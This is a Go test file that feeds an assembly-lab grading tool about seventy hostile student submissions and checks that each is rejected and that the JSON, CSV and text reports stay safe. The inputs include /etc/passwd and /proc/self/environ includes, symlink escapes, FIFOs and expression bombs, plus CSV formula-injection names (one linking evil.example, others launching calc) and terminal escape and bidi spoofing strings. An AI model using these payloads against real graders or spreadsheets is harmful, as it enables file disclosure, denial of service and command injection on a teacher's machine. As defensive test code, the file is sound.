//go:build unix

package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/avrlab/avrlab/lab"
)

// binaryEnv names the avrlab binary the grade tests run; TestMain builds one unless it is set.
const binaryEnv = "AVRLAB_TEST_BINARY"

// TestMain builds the avrlab binary once per test run: `avrlab grade` re-executes itself for every
// submission, which a test binary cannot stand in for. It turns the compilation cache off.
func TestMain(m *testing.M) {
	// No test writes the user's compilation cache: those of the cache pass -cache DIR.
	os.Setenv(cacheEnv, "off")
	var tmp string
	if os.Getenv(binaryEnv) == "" {
		if goTool, err := exec.LookPath("go"); err == nil {
			tmp, err = os.MkdirTemp("", "avrlab-bin-")
			if err == nil {
				bin := filepath.Join(tmp, "avrlab")
				out, err := exec.Command(goTool, "build", "-o", bin, ".").CombinedOutput()
				if err != nil {
					fmt.Fprintf(os.Stderr, "building avrlab for the grade tests: %v\n%s", err, out)
					os.RemoveAll(tmp)
					os.Exit(1)
				}
				os.Setenv(binaryEnv, bin)
			}
		}
	}
	code := m.Run()
	if tmp != "" {
		os.RemoveAll(tmp)
	}
	os.Exit(code)
}

// avrlabBinary returns the binary TestMain built, or skips the test without one.
func avrlabBinary(t *testing.T) string {
	t.Helper()
	bin := os.Getenv(binaryEnv)
	if bin == "" {
		t.Skip("no go command to build avrlab with, and no " + binaryEnv)
	}
	return bin
}

// gradeRun is one run of the avrlab binary.
type gradeRun struct {
	code           int
	stdout, stderr string
	wall           time.Duration
	maxRSSKiB      int64 // the largest resident set of the process and the children it waited for
}

// runBinary runs the avrlab binary in dir, failing the test if it has not finished within limit.
func runBinary(t *testing.T, dir string, limit time.Duration, args ...string) gradeRun {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	cmd := exec.CommandContext(ctx, avrlabBinary(t), args...)
	cmd.Dir = dir
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	start := time.Now()
	err := cmd.Run()
	r := gradeRun{stdout: out.String(), stderr: errb.String(), wall: time.Since(start)}
	if ctx.Err() != nil {
		t.Fatalf("avrlab %s did not finish within %v\nstderr:\n%s", strings.Join(args, " "), limit, r.stderr)
	}
	var ee *exec.ExitError
	if err != nil && !errors.As(err, &ee) {
		t.Fatal(err)
	}
	r.code = cmd.ProcessState.ExitCode()
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		r.maxRSSKiB = int64(ru.Maxrss)
	}
	return r
}

// mkfile writes a file under dir, making its folders.
func mkfile(t *testing.T, dir, name string, data []byte) {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func readFile(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// hostileCase is one hostile submission: a folder the setup fills, and what its row's problem must say
// (any of want; empty want: any non-empty reason).
type hostileCase struct {
	name  string
	setup func(t *testing.T, dir string) bool // false: not possible here (e.g. mknod without privilege)
	want  []string
}

func src(text string) func(t *testing.T, dir string) bool {
	return func(t *testing.T, dir string) bool {
		mkfile(t, dir, "main.S", []byte(text))
		return true
	}
}

func files(kv ...string) func(t *testing.T, dir string) bool {
	return func(t *testing.T, dir string) bool {
		for i := 0; i+1 < len(kv); i += 2 {
			mkfile(t, dir, kv[i], []byte(kv[i+1]))
		}
		return true
	}
}

func symlinks(target, link string, more ...string) func(t *testing.T, dir string) bool {
	return func(t *testing.T, dir string) bool {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
		return files(more...)(t, dir)
	}
}

func fifo(name string, more ...string) func(t *testing.T, dir string) bool {
	return func(t *testing.T, dir string) bool {
		files(more...)(t, dir)
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := syscall.Mkfifo(filepath.Join(dir, name), 0o644); err != nil {
			t.Fatal(err)
		}
		return true
	}
}

func sparse(name string, size int64, more ...string) func(t *testing.T, dir string) bool {
	return func(t *testing.T, dir string) bool {
		files(more...)(t, dir)
		mkfile(t, dir, name, nil)
		if err := os.Truncate(filepath.Join(dir, name), size); err != nil {
			t.Fatal(err)
		}
		return true
	}
}

const entry = "\t.global speck64_128_encrypt\nspeck64_128_encrypt:\n"

// hostileCases returns the hostile submissions. testdata is the good implementation of
// lab/testdata/speck64.S (it has BUG_* switches).
func hostileCases(testdata string) []hostileCase {
	r := strings.Repeat
	cyc := "did not return within 100000 cycles"
	// Until lab/bench.go counts the cycles of a call that ends past the limit, the N+1 call passes the
	// limit unnoticed; the new harness says "took 100001 cycles, over the limit of 100000".
	over := []string{cyc, "over the limit of 100000"}
	// The preprocessor's and assembler's nesting limits give these a message; without them the child
	// crashes with a Go stack overflow (still one row, still bounded).
	nesting := []string{"nest", "deep", "levels"}
	return []hostileCase{
		// The preprocessor and the assembler fed deep or long expressions.
		{"cpp-parens-400k", src("#if " + r("(", 400000) + "1" + r(")", 400000) + "\n#endif\n"), nesting},
		{"cpp-not-1m", src("#if " + r("!", 1000000) + "1\n#endif\n"), nesting},
		{"cpp-div0", src("#if 1/0\n#endif\n"), nil},
		{"asm-parens-500k", src("\tldi r16, " + r("(", 500000) + "1" + r(")", 500000) + "\n"), nesting},
		{"asm-parens-3m-include", files("main.S", ".include \"deep.inc\"\n", "deep.inc", "\tldi r16, "+r("(", 3000000)+"1"+r(")", 3000000)+"\n"), nil},
		{"rept-set-5000-terms", src(".rept 1000000\n.set x, " + r("1+", 4999) + "1\n.endr\n"), nil},
		{"rept-1e9-empty", src(".rept 1000000000\n.endr\n"), nil},
		{"rept-1e9-nop", src(".rept 1000000000\n\tnop\n.endr\n"), nil},
		{"macro-recursive", src(".macro m\n\tm\n.endm\n\tm\n"), nil},
		{"macro-exponential", src(func() string {
			var b strings.Builder
			b.WriteString(".macro m0\n\tnop\n.endm\n")
			for i := 1; i <= 40; i++ {
				fmt.Fprintf(&b, ".macro m%d\n\tm%d\n\tm%d\n.endm\n", i, i-1, i-1)
			}
			b.WriteString("\tm40\n")
			return b.String()
		}()), nil},
		{"cpp-define-exponential", src(func() string {
			var b strings.Builder
			b.WriteString("#define a0 1+1\n")
			for i := 1; i <= 40; i++ {
				fmt.Fprintf(&b, "#define a%d a%d+a%d\n", i, i-1, i-1)
			}
			b.WriteString(".set x, a40\n")
			return b.String()
		}()), nil},
		{"nested-if-70k", src(r(".if 1\n", 70000) + r(".endif\n", 70000)), nil},
		{"nested-cpp-if-70k", src(r("#if 1\n", 70000) + r("#endif\n", 70000)), nil},
		{"fill-2e60", src(".fill 0x2000000000000000, 8, 0x11\n"), []string{".fill", "fill"}},
		{"org-huge", src("\t.org 0x7fffffff\n\tnop\n"), nil},
		{"space-huge", src("\t.space 0x7fffffff\n"), nil},
		{"set-self-reference", src(".set x, x+1\n"), nil},
		{"error-long-message", src(".error \"" + r("A", 500000) + "\"\n"), nil},
		{"many-errors", src(r("\tbad r99\n", 100000)), nil},
		{"long-line", src(r("a", 1000000)), nil},
		{"binary-garbage", src(func() string {
			b := make([]byte, 500000)
			x := uint32(2463534242)
			for i := range b {
				x ^= x << 13
				x ^= x >> 17
				x ^= x << 5
				b[i] = byte(x)
			}
			return string(b)
		}()), nil},
		{"nul-bytes", src(r("\x00", 100000)), nil},
		// Files that are not what they seem, and reads out of the folder.
		{"fifo-main", fifo("main.S"), []string{"named pipe"}},
		{"fifo-include", fifo("pipe.inc", "main.S", ".include \"pipe.inc\"\n"), nil},
		{"fifo-cpp-include", fifo("pipe.h", "main.S", "#include \"pipe.h\"\n"), nil},
		{"fifo-via-symlink", func(t *testing.T, dir string) bool {
			fifo("pipe")(t, dir)
			return symlinks("pipe", "main.S")(t, dir)
		}, []string{"named pipe"}},
		{"chardev-main", func(t *testing.T, dir string) bool {
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			// A character device like /dev/zero (1, 5); needs privilege.
			return syscall.Mknod(filepath.Join(dir, "main.S"), syscall.S_IFCHR|0o644, 1<<8|5) == nil
		}, []string{"device"}},
		{"huge-include-1.2GB", sparse("big.inc", 1_200_000_000, "main.S", ".include \"big.inc\"\n"), nil},
		{"huge-cpp-include-1.2GB", sparse("big.h", 1_200_000_000, "main.S", "#include \"big.h\"\n"), nil},
		{"source-10MB", src(r("; padding padding padding padding\n", 10<<20/34)), []string{"1048576 bytes per file"}},
		{"include-10MB", files("main.S", ".include \"pad.inc\"\n", "pad.inc", r("; padding padding padding padding\n", 10<<20/34)), nil},
		{"sparse-main-1.2GB", sparse("main.S", 1_200_000_000), []string{"1048576 bytes per file"}},
		{"abs-include", src(".include \"/etc/passwd\"\n"), []string{"/etc/passwd"}},
		{"abs-cpp-include", src("#include \"/etc/passwd\"\n"), []string{"/etc/passwd"}},
		{"proc-include", src(".include \"/proc/self/environ\"\n"), []string{"/proc/self/environ"}},
		{"dotdot-include", src(".include \"../good-1/main.S\"\n"), []string{"../good-1/main.S"}},
		{"dotdot-cpp-include", src("#include \"../../../../../../etc/passwd\"\n"), nil},
		{"symlink-main-abs", symlinks("/etc/passwd", "main.S"), nil},
		{"symlink-main-out", symlinks("../good-1/main.S", "main.S"), nil},
		{"symlink-include-proc", symlinks("/proc/self", "self", "main.S", ".include \"self/environ\"\n"), nil},
		{"symlink-loop", symlinks("main.S", "main.S"), nil},
		{"include-self", src(".include \"main.S\"\n"), nil},
		{"include-loop", files("main.S", ".include \"a.inc\"\n", "a.inc", ".include \"b.inc\"\n", "b.inc", ".include \"a.inc\"\n"), nil},
		{"cpp-include-loop", src("#include \"main.S\"\n"), nil},
		{"deep-path-include", src(".include \"" + r("a/", 2000) + "x.inc\"\n"), nil},
		{"main-is-folder", files("main.S/x.S", "nop\n"), nil},
		// A folder is one program of all its sources.
		{"two-sources", files("a.S", "nop\n", "b.S", "nop\n"), []string{"entry symbol"}},
		{"empty-folder", func(t *testing.T, dir string) bool { return os.MkdirAll(dir, 0o755) == nil }, []string{"no source files"}},
		{"sources-300", func(t *testing.T, dir string) bool {
			for i := range 300 {
				mkfile(t, dir, fmt.Sprintf("f%03d.S", i), []byte("\tnop\n"))
			}
			return true
		}, []string{"300 source files; the limit is 256"}},
		{"duplicate-global", files("a.S", entry+"\tret\n", "b.S", entry+"\tret\n"), []string{"already defined at a.S:2:1 (both are .global)"}},
		{"fifo-second-source", fifo("b.S", "a.S", testdata), []string{"named pipe"}},
		{"sparse-second-source", sparse("b.S", 1_200_000_000, "a.S", testdata), []string{"1048576 bytes per file"}},
		{"asm-with-S", files("a.S", "nop\n", "main.asm", "nop\n"), []string{"AVRASM2 source is a program of its own"}},
		// AVRASM2 submissions meet the same limits.
		{"atmel-abs-include", files("main.asm", ".include \"/etc/passwd\"\n"), []string{"/etc/passwd"}},
		{"atmel-dotdot-include", files("main.asm", ".include \"../good-1/main.S\"\n"), []string{"../good-1/main.S"}},
		{"atmel-macro-recursive", files("main.asm", ".macro m\nm\n.endm\nm\n"), nesting},
		{"atmel-fifo-include", fifo("pipe.inc", "main.asm", ".include \"pipe.inc\"\n"), []string{"named pipe"}},
		{"atmel-other-device", files("main.asm", ".device ATtiny45\n"), []string{".device ATtiny45, but the program is assembled for the ATmega128"}},
		{"atmel-org-huge", files("main.asm", ".org 0x7fffffff\nnop\n"), []string{"outside the 65536 words of flash"}},
		// Programs that run badly.
		{"infinite-loop", src(entry + "\trjmp speck64_128_encrypt\n"), []string{cyc}},
		{"uart-flood", src(entry + "\tsts 0x2c, r16\n\trjmp speck64_128_encrypt\n"), []string{cyc}},
		// 2 + (4*24999 - 1) + 4 = 100001 cycles through the RET, one over -max-cycles 100000.
		{"cycles-n-plus-1", src(entry + "\tldi r26, lo8(24999)\n\tldi r27, hi8(24999)\n1:\tsbiw r26, 1\n\tbrne 1b\n\tret\n"), over},
		{"fault-data-address", src(entry + "\tldi r26, 0xff\n\tldi r27, 0xff\n\tld r16, X\n\tret\n"), nil},
		{"avr-stack-overflow", src(entry + "\trcall speck64_128_encrypt\n"), []string{"stack"}},
		{"missing-entry", src("\tnop\n"), []string{"entry symbol"}},
		{"abi-r28", src("#define BUG_R28 1\n" + testdata), []string{"ABI"}},
		{"wrong-output", src("#define BUG_CONST 1\n" + testdata), []string{"vectors wrong"}},
		// Names and messages aimed at the teacher's terminal and spreadsheet.
		{`=HYPERLINK("https:\\evil.example?x","click")`, src("\tnop\n"), nil},
		{"+1+cmd|' -C calc'!A0", src("\tnop\n"), nil},
		{"-2+3+cmd", src("\tnop\n"), nil},
		{"@SUM(1+1)", src("\tnop\n"), nil},
		{"\ttab-first", src("\tnop\n"), nil},
		{"\rcr-first", src("\tnop\n"), nil},
		{"error-formula", files("=cmd|' calc'!A1.S", ".error \"=cmd|' /C calc'!A1\"\n"), nil},
		{"error-escape", src(".error \"\\033[2J\\033[H\\033]0;all passed\\007\"\n"), nil},
		{"error-raw-escape", src(".error \"\x1b[2J\x1b[H\x1b[32mPASS\x1b[0m\x08\x07 \u009b2J ok\"\n"), []string{"PASS"}},
		{"esc-\x1b[2J\x1b[31m-name", src("\tnop\n"), nil},
		{"newline\nin-name", src("\tnop\n"), nil},
		{"bidi-\u202eS.niam", src("\tnop\n"), nil},
		{"bad-utf8-\xff\xfe-\xc2\x9b-name", src("\tnop\n"), nil},
	}
}

// TestGradeHostile grades a class of 3 good submissions and many hostile ones in one run, in child
// processes. The run must end, every good row pass with its RANK, every hostile row be there and fail
// with a reason, and every output format be safe to open. Every case ends on a limit of its own (the
// depth, effort, size and cycle limits, which stop the work at the limit): the child timeout is set far
// above what any takes, so that it is never what a row measures and the machine's load cannot change
// a row (a 3 s timeout once cut asm-parens-500k short of its depth limit).
func TestGradeHostile(t *testing.T) {
	if testing.Short() {
		t.Skip("grades about 70 submissions")
	}
	class := t.TempDir()
	if keep := os.Getenv("AVRLAB_HOSTILE_DIR"); keep != "" {
		// Leave the class folder for a look or a manual run: AVRLAB_HOSTILE_DIR=/tmp/class go test -run Hostile
		class = keep
	}
	good := map[string][]byte{
		"good-1": readFile(t, "../../examples/speck64.S"),
		"good-2": readFile(t, "../../lab/testdata/speck64.S"),
	}
	for name, text := range good {
		mkfile(t, class, filepath.Join(name, "main.S"), text)
	}
	// A folder submission with an include and a 24-byte table: more flash, lower RANK.
	mkfile(t, class, "good-3/impl.inc", good["good-1"])
	mkfile(t, class, "good-3/main.S", []byte("#include \"impl.inc\"\n\t.section .progmem.data\ntable:\t.byte "+strings.Repeat("1, ", 23)+"1\n"))
	opts := lab.Options{Task: "speck64-128", Vectors: 20, MaxCycles: 100000}
	wantRank := map[string]float64{}
	for _, name := range []string{"good-1", "good-2", "good-3"} {
		root, err := os.OpenRoot(filepath.Join(class, name))
		if err != nil {
			t.Fatal(err)
		}
		rep, _, err := lab.BenchFile(root.FS(), "main.S", opts)
		root.Close()
		if err != nil || !rep.Pass {
			t.Fatalf("%s does not pass on its own: %v %+v", name, err, rep)
		}
		wantRank[name] = rep.Rank
	}

	hostile := map[string]hostileCase{}
	for _, c := range hostileCases(string(good["good-2"])) {
		if c.setup(t, filepath.Join(class, c.name)) {
			hostile[c.name] = c
		} else {
			t.Logf("%q: not possible here, left out", c.name)
		}
	}
	if len(hostile) < 40 {
		t.Fatalf("only %d hostile cases", len(hostile))
	}

	run := runBinary(t, class, 8*time.Minute, "grade", "-task", "speck64-128", "-json", "-vectors", "20",
		"-max-cycles", "100000", "-timeout", "2m", ".")
	t.Logf("%d submissions graded in %v (-j default), largest resident set %d MiB", len(good)+1+len(hostile),
		run.wall.Round(time.Millisecond), run.maxRSSKiB>>10)
	if run.code != 0 {
		t.Fatalf("exit %d\n%s", run.code, run.stderr)
	}
	if strings.ContainsAny(run.stdout, "\x1b\r\x00\x07") {
		t.Errorf("JSON output holds a raw control character")
	}
	var rows []lab.GradeRow
	if err := json.Unmarshal([]byte(run.stdout), &rows); err != nil {
		t.Fatalf("JSON: %v\n%s", err, run.stdout)
	}
	if n := len(good) + 1 + len(hostile); len(rows) != n {
		t.Errorf("%d rows, want %d", len(rows), n)
	}
	if !strings.Contains(run.stderr, fmt.Sprintf("[%d/%d]", len(rows), len(rows))) {
		t.Errorf("no progress lines on stderr:\n%s", run.stderr)
	}
	if strings.Contains(run.stderr, "\x1b") {
		t.Errorf("progress lines hold a raw ESC")
	}

	// JSON turns bytes that are not UTF-8 into U+FFFD; compare names the same way.
	jsonName := func(s string) string {
		b, _ := json.Marshal(s)
		var out string
		json.Unmarshal(b, &out)
		return out
	}
	seen := map[string]bool{}
	for i, r := range rows {
		seen[r.Submission] = true
		if want, ok := wantRank[r.Submission]; ok {
			if !r.Pass || r.Problem != "" || fmt.Sprintf("%.6f", r.Rank) != fmt.Sprintf("%.6f", want) {
				t.Errorf("good row %d %q: pass %v rank %v (want %.6f), problem %q", i, r.Submission, r.Pass, r.Rank, want, r.Problem)
			}
			if i >= 3 {
				t.Errorf("good row %q is row %d, not among the first three", r.Submission, i+1)
			}
		}
	}
	if rows[0].Submission != "good-1" || rows[1].Submission != "good-3" || rows[2].Submission != "good-2" {
		t.Errorf("first rows %q %q %q, want good-1 good-3 good-2 (by RANK)", rows[0].Submission, rows[1].Submission, rows[2].Submission)
	}
	byName := map[string]lab.GradeRow{}
	for _, r := range rows {
		byName[r.Submission] = r
	}
	for name, c := range hostile {
		r, ok := byName[jsonName(name)]
		if !ok {
			t.Errorf("no row for hostile %q", name)
			continue
		}
		if r.Pass || strings.TrimSpace(r.Problem) == "" {
			t.Errorf("hostile %q: pass %v, problem %q", name, r.Pass, r.Problem)
			continue
		}
		if strings.HasPrefix(r.Problem, "timed out") {
			t.Errorf("hostile %q: %s; every case must end on its own limit, not the test's timeout", name, r.Problem)
			continue
		}
		if len(c.want) > 0 {
			hit := false
			for _, w := range c.want {
				hit = hit || strings.Contains(r.Problem, w)
			}
			if !hit {
				t.Errorf("hostile %q: problem %q does not say %q", name, cutRunes(r.Problem, 300), c.want)
			}
		}
	}
	if testing.Verbose() {
		for _, r := range rows {
			t.Logf("%-45s %s", textSafe(r.Submission), cutRunes(textSafe(r.Problem), 160))
		}
	}

	// The CSV and text renderings of these rows, as `grade -csv` and `grade` print them.
	var csvOut, textOut bytes.Buffer
	writeGradeCSV(&csvOut, rows)
	checkCSVSafe(t, csvOut.String(), len(rows))
	writeGradeText(&textOut, rows)
	checkTextSafe(t, textOut.String(), len(rows))
}

// checkCSVSafe fails the test if a cell of a CSV table starts like a formula, or the table does not hold
// a header and n rows of 12 cells.
func checkCSVSafe(t *testing.T, out string, n int) [][]string {
	t.Helper()
	recs, err := csvRecords(out)
	if err != nil {
		t.Fatalf("CSV: %v\n%s", err, out)
	}
	if len(recs) != n+1 {
		t.Errorf("CSV has %d records, want %d", len(recs), n+1)
	}
	for i, rec := range recs {
		if len(rec) != len(csvHeader)+len(csvMeasured) {
			t.Errorf("CSV record %d has %d cells", i, len(rec))
		}
		for _, cell := range rec {
			if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
				t.Errorf("CSV record %d: cell %q starts like a formula", i, cell)
			}
			if strings.ContainsFunc(cell, func(r rune) bool { return r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f }) {
				t.Errorf("CSV record %d: cell %q holds a control character", i, cell)
			}
		}
	}
	return recs
}

// checkTextSafe fails the test if a text table holds a control character other than newline, or does
// not have a header and n lines.
func checkTextSafe(t *testing.T, out string, n int) {
	t.Helper()
	for i, c := range []byte(out) {
		if c < 0x20 && c != '\n' || c == 0x7f {
			t.Errorf("text output byte %d is control character 0x%02x", i, c)
			break
		}
	}
	for _, r := range out {
		if r >= 0x80 && r <= 0x9f || r == 0x202e {
			t.Errorf("text output holds U+%04X", r)
			break
		}
	}
	if lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n"); len(lines) != n+2 { // the settings line, the header, the rows
		t.Errorf("text output has %d lines, want %d:\n%s", len(lines), n+2, out)
	}
}
